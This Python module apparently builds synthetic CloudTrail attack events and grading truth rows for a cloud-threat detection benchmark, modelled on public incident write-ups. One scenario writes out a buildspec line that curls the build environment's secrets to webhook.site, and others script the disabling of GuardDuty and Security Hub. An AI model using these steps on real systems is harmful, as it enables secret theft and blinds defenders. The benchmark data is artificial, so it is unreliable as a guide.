"""The attacks, after public write-ups (Datadog Security Labs and Stratus Red Team, Permiso,
Unit 42, Sysdig, Invictus IR, Wiz, Expel, Mandiant). Each writes its events into its day and
returns its truth rows (attacks by key and address, with the event IDs)."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Sequence

from benchmarks.heldout12 import _background, _keys, _org, _pipeline, _trail
from benchmarks.heldout12._background import BUCKETS, Day, request
from benchmarks.heldout12._people import console_login, saml_session
from benchmarks.heldout12._trail import Record

KALI = "aws-cli/2.15.17 md/awscrt#0.19.19 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.7 md/pyimpl#CPython cfg/retry-mode#standard md/installer#source md/distrib#kali.2024 md/prompt#off md/command#{cmd}"
SCRIPT = "Boto3/1.26.0 Python/3.9.2 Linux/5.10.0-26-cloud-amd64 Botocore/1.29.0"
TRUFFLEHOG = "aws-sdk-go/1.44.334 (go1.21.1; linux; amd64)"
ATTACKER_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"


def seq(
    d: Day,
    ident: Record,
    steps: Sequence[str | tuple[str, Record | None, tuple[str, str] | None]],
    *,
    account: str,
    ip: str,
    ua: str,
    start: dt.datetime,
    gap: float = 20.0,
    region: str = _org.CA,
    bucket: tuple[str, str] | None = None,
    console: bool = False,
) -> list[Record]:
    """The calls of ``steps`` in order, ``gap`` seconds apart (with jitter); a step is an API or
    (API, request parameters, error)."""
    r = d.rng("seq", ip, start.isoformat())
    out = []
    t = start
    for step in steps:
        api, req, err = (step, None, None) if isinstance(step, str) else step
        auto_req, res = request(api, r, bucket)
        cmd = api.split(":")[0] + "." + api.split(":")[1].lower()
        out.append(_trail.record(r, t, api, ident, account=account, region=region, ip=ip, ua=ua.replace("{cmd}", cmd),
                                 request=req if req is not None else auto_req, resources=res, error=err, console=console))  # fmt: skip
        t += dt.timedelta(seconds=gap * r.uniform(0.5, 1.5))
    d.out.extend(out)
    return out


def row(i: str, name: str, evs: list[Record], *, key: str, ip: str, sev: str = "medium") -> Record:
    times = sorted(e["eventTime"] for e in evs)
    return {"id": i, "name": name, "label": "attack", "access_key_id": key, "source_ip": ip,
            "event_ids": " ".join(e["eventID"] for e in evs), "start": times[0], "end": times[-1],
            "expected_min_severity": sev}  # fmt: skip


def person(upn: str) -> _org.Person:
    return next(p for p in _org.PEOPLE if p.upn.startswith(upn))


def a1_gateway_cert(d: Day) -> list[Record]:
    """A Roles Anywhere certificate and key copied off a substation gateway; the thief signs
    CreateSession with it from a hosting provider (same certificate serial, so the same role
    session name) and looks around."""
    w, unit = _keys.EDGE, "edge-rtu-canton-02"
    r, ip = d.rng("a1"), _org.NETS["vultr"].at(77)
    t = d.at(15.3)
    serial = _keys.cert_serial(d.seed, unit, False)
    k = _trail.key(r)
    mint = _trail.minted(
        r,
        t,
        w.minter,
        w.account,
        w.region,
        w.role,
        serial,
        k,
        source_identity=f"CN={unit}.ot.{_org.DOMAIN}",
    )
    d.out.append(mint)
    ident = _trail.assumed(
        w.account, w.role, serial, k, t, source_identity=f"CN={unit}.ot.{_org.DOMAIN}"
    )
    evs = seq(d, ident, ["sts:GetCallerIdentity", "s3:ListBuckets", "kinesis:ListStreams", "iot:ListThings", "iot:ListPolicies",
                         ("s3:ListObjectsV2", None, ("AccessDenied", "Access Denied")), "kinesis:DescribeStream", "iot:ListCertificates"],
              account=w.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=40), bucket=BUCKETS["historian"])  # fmt: skip
    return [
        row(
            "A1",
            "Roles Anywhere certificate stolen from a substation gateway, used from Vultr",
            [mint, *evs],
            key=k,
            ip=ip,
        )
    ]


def a2_leaked_user_key(d: Day) -> list[Record]:
    """The outage-map service's long-lived key pushed to a public repository: a secret scanner
    tries it within minutes, then a script lists the historian bucket and pulls it."""
    name = "svc-outage-map"
    acct = _org.ACCOUNTS["gridiot"]
    k = _background.legacy_key(d.seed, name)
    ident = _trail.user(acct, name, k)
    ip1, ip2 = _org.NETS["ovh"].at(301), _org.NETS["ovh"].at(1302)
    evs = seq(
        d, ident, ["sts:GetCallerIdentity"], account=acct, ip=ip1, ua=TRUFFLEHOG, start=d.at(9.2)
    )
    evs += seq(d, ident, ["s3:ListBuckets", "iam:ListAttachedUserPolicies", *["s3:ListObjectsV2"] * 12], account=acct, ip=ip2, ua=SCRIPT,
               start=d.at(9.9), gap=6, bucket=BUCKETS["historian"])  # fmt: skip
    evs += seq(d, ident, ["s3:GetObject"] * int(220 * max(d.scale, 0.25)), account=acct, ip=ip2, ua=SCRIPT, start=d.at(10.0), gap=9,
               bucket=BUCKETS["historian"])  # fmt: skip
    return [
        row(
            "A2",
            "legacy IAM user key leaked on a public repository: historian bucket listed and copied",
            evs,
            key=k,
            ip=f"{ip1} {ip2}",
        )
    ]


def a3_delegated_admin(d: Day) -> list[Record]:
    """A platform admin's Entra ID session stolen by an AiTM phishing proxy: at night, from a
    VPS, the org's GuardDuty and Security Hub delegated administrator is removed."""
    p, ip = person("k.lindqvist"), _org.NETS["digitalocean"].at(4410)
    r, t = d.rng("a3"), d.at(2.5)
    k, ident = saml_session(d, r, p, t, ip, ATTACKER_WIN)
    before = len(d.out) - 1  # the sign-in (AssumeRoleWithSAML) is the attack's too
    console_login(d, r, p, t + dt.timedelta(seconds=4), ip, ident, ATTACKER_WIN)
    sec = _org.ACCOUNTS["security"]
    evs = d.out[before:] + seq(d, ident, [
        "organizations:ListDelegatedAdministrators", "guardduty:ListOrganizationAdminAccounts",
        ("guardduty:DisableOrganizationAdminAccount", {"adminAccountId": sec}, None),
        ("securityhub:DisableOrganizationAdminAccount", {"AdminAccountId": sec}, None),
        ("organizations:DeregisterDelegatedAdministrator", {"accountId": sec, "servicePrincipal": "config.amazonaws.com"}, None),
        ("organizations:DisableAWSServiceAccess", {"servicePrincipal": "guardduty.amazonaws.com"}, None),
    ], account=p.account, ip=ip, ua=ATTACKER_WIN, start=t + dt.timedelta(minutes=2), gap=35, console=True)  # fmt: skip
    return [
        row(
            "A3",
            "phished platform admin removes the delegated security administrator",
            evs,
            key=k,
            ip=ip,
        )
    ]


def a4_leave_org(d: Day) -> list[Record]:
    """An old admin user's second key, never used, from a VPS: the member account leaves its
    GuardDuty administrator, then tries to leave the organisation."""
    acct, ip = _org.ACCOUNTS["otdata"], _org.NETS["contabo"].at(9120)
    k = _trail.key(d.rng("a4"), "AKIA")
    ident = _trail.user(acct, "admin-ot-legacy", k)
    evs = seq(d, ident, [
        "sts:GetCallerIdentity", "iam:ListAttachedUserPolicies", "organizations:DescribeOrganization",
        "guardduty:ListDetectors", "guardduty:GetAdministratorAccount",
        ("guardduty:DisassociateFromAdministratorAccount", {"detectorId": "a2c4e6f8b0d1c3e5f7a9b1d3e5f7a9b1"}, None),
        ("organizations:LeaveOrganization", None, ("ConstraintViolationException", "The member account is missing one or more of the prerequisites required to operate as a standalone account.")),
        ("organizations:LeaveOrganization", None, None),
    ], account=acct, ip=ip, ua=KALI, start=d.at(3.2), gap=45)  # fmt: skip
    return [
        row(
            "A4",
            "member account disassociated from GuardDuty and leaves the organisation",
            evs,
            key=k,
            ip=ip,
        )
    ]


def a5_notebook(d: Day) -> list[Record]:
    """A data scientist's federated session used from outside to mint a presigned notebook URL;
    in the notebook's terminal the notebook role's credentials are read and used from the same
    VPS to enumerate IAM."""
    p, ip = person("a.nguyen"), _org.NETS["linode"].at(2231)
    r, t = d.rng("a5"), d.at(17.3)
    k1, ident1 = saml_session(d, r, p, t, ip, _org.SAML2AWS)
    sign_in = d.out[-1]
    evs1 = [sign_in, *seq(d, ident1, ["sagemaker:ListNotebookInstances",
        ("sagemaker:CreatePresignedNotebookInstanceUrl", {"notebookInstanceName": "scada-analytics-nb"}, None)],
        account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=30))]  # fmt: skip
    w = _keys.NOTEBOOK
    t2 = t + dt.timedelta(minutes=12)
    k2 = _keys.key_at(d.seed, w, w.units[0], t2)
    ident2 = _trail.assumed(w.account, w.role, "SageMaker", k2, _keys.slot(w, t2))
    evs2 = seq(d, ident2, ["sts:GetCallerIdentity", "iam:ListRoles", "iam:ListUsers", "iam:ListAttachedRolePolicies",
                           "iam:GetAccountAuthorizationDetails", "s3:ListBuckets", "secretsmanager:ListSecrets"],
               account=w.account, ip=ip, ua=KALI, start=t2, gap=25)  # fmt: skip
    name = "SageMaker notebook reached by a presigned URL, its role then used from a VPS for IAM enumeration"
    return [row("A5", name, evs1, key=k1, ip=ip), row("A5", name, evs2, key=k2, ip=ip)]


POLICY = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"iot:*","Resource":"*"}]}'


def a6_iot_policy(d: Day) -> list[Record]:
    """A grid operations engineer's federated session from a VPS rewrites the meters' IoT policy
    so that any client may connect and publish."""
    p, ip = person("j.okafor"), _org.NETS["vultr"].at(612)
    r, t = d.rng("a6"), d.at(20.6)
    k, ident = saml_session(d, r, p, t, ip, _org.SAML2AWS)
    sign_in = d.out[-1]
    evs = [sign_in, *seq(d, ident, [
        "iot:ListPolicies", ("iot:GetPolicy", {"policyName": "smart-meter-policy"}, None),
        ("iot:CreatePolicyVersion", {"policyName": "smart-meter-policy", "policyDocument": POLICY, "setAsDefault": True}, None),
        "iot:ListTargetsForPolicy", ("iot:AttachPolicy", {"policyName": "smart-meter-policy", "target": "arn:aws:iot:ca-central-1:thinggroup/all-meters"}, None),
        "iot:ListThings",
    ], account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=25), gap=40)]  # fmt: skip
    return [row("A6", "IoT policy opened to any client from a phished session", evs, key=k, ip=ip)]


def a7_codebuild(d: Day) -> list[Record]:
    """The legacy Jenkins user's key, from a VPS, rewrites a CodeBuild project's buildspec to post
    the build's environment (its secrets) out, and starts it."""
    name, acct = "svc-jenkins-legacy", _org.ACCOUNTS["tools"]
    ip = _org.NETS["digitalocean"].at(77)
    k = _background.legacy_key(d.seed, name)
    ident = _trail.user(acct, name, k)
    spec = {
        "name": "grid-deploy",
        "source": {
            "buildspec": 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s -d "$(env)" https://webhook.site/...'
        },
    }
    evs = seq(d, ident, ["codebuild:ListProjects", ("codebuild:BatchGetProjects", {"names": ["grid-deploy"]}, None),
                         ("codebuild:UpdateProject", spec, None), ("codebuild:StartBuild", {"projectName": "grid-deploy"}, None),
                         "codebuild:BatchGetBuilds"], account=acct, ip=ip, ua=SCRIPT, start=d.at(14.1), gap=30)  # fmt: skip
    _pipeline.build(d, 14.3, "a7")  # the poisoned build runs as any other
    return [row("A7", "CodeBuild project modified to send its environment out", evs, key=k, ip=ip)]


def a8_serial_console(d: Day) -> list[Record]:
    """A field engineer's federated session from a VPS opens the EC2 serial console of a
    historian ETL instance and an SSM session to it."""
    p, ip = person("p.wright"), _org.NETS["ovh"].at(8080)
    r, t = d.rng("a8"), d.at(18.5)
    k, ident = saml_session(d, r, p, t, ip, _org.SAML2AWS)
    inst = _keys.ETL.units[0]
    sign_in = d.out[-1]
    evs = [sign_in, *seq(d, ident, [
        "ec2:DescribeInstances", "ec2:GetSerialConsoleAccessStatus",
        ("ec2ic:SendSerialConsoleSSHPublicKey", {"instanceId": inst, "serialPort": 0}, None),
        ("ssm:StartSession", {"target": inst}, None), "ssm:DescribeInstanceInformation",
    ], account=p.account, ip=ip, ua=KALI, start=t + dt.timedelta(seconds=30), gap=50)]  # fmt: skip
    return [row("A8", "EC2 serial console and SSM session from a new network", evs, key=k, ip=ip)]


def a9_ses_phishing(d: Day) -> list[Record]:
    """In the account that joined this week, an outage-model instance's credentials (taken
    through SSRF to the instance metadata service) verify SES identities to send phishing."""
    w, unit = _keys.MODEL_RUNNER, _keys.MODEL_RUNNER.units[1]
    ip, t = _org.NETS["linode"].at(5150), d.at(13.1)
    k = _keys.key_at(d.seed, w, unit, t)
    ident = _trail.assumed(w.account, w.role, unit, k, _keys.slot(w, t), ec2=True)
    send = [("ses:SendEmail", {"source": "billing@borealis-grid-billing.com"}, None)] * 12
    evs = seq(d, ident, ["sts:GetCallerIdentity", "ses:GetSendQuota", "ses:ListIdentities",
                         ("ses:VerifyDomainIdentity", {"domain": "borealis-grid-billing.com"}, None),
                         ("ses:VerifyEmailIdentity", {"emailAddress": "billing@borealis-grid-billing.com"}, None), *send],
              account=w.account, ip=ip, ua=SCRIPT, start=t, gap=60)  # fmt: skip
    return [
        row(
            "A9",
            "new account: instance credentials used from Linode to verify SES identities and send mail",
            evs,
            key=k,
            ip=ip,
        )
    ]


def a10_threat_list(d: Day) -> list[Record]:
    """The PI archive's key, its own client and usual calls, from an address on the threat list."""
    name, acct = "svc-pi-archive", _org.ACCOUNTS["otdata"]
    k, ip = _background.legacy_key(d.seed, name), _org.NETS["m247"].at(3)
    ident = _trail.user(acct, name, k)
    evs = seq(d, ident, ["s3:ListObjectsV2", *["s3:GetObject"] * 30], account=acct, ip=ip, ua=_org.PI_ARCHIVE,
              start=d.at(16.0), gap=15, bucket=BUCKETS["historian"])  # fmt: skip
    return [
        row(
            "A10",
            "PI archive key used from a threat-list address (own client, usual calls)",
            evs,
            key=k,
            ip=ip,
        )
    ]


ATTACKS: dict[int, tuple[Callable[[Day], list[Record]], ...]] = {
    0: (a10_threat_list,),
    1: (a2_leaked_user_key,),
    2: (a1_gateway_cert, a6_iot_policy),
    3: (a3_delegated_admin, a5_notebook, a9_ses_phishing),
    4: (a4_leave_org, a7_codebuild, a8_serial_console),
}
THREAT = (_org.NETS["m247"].at(3),)
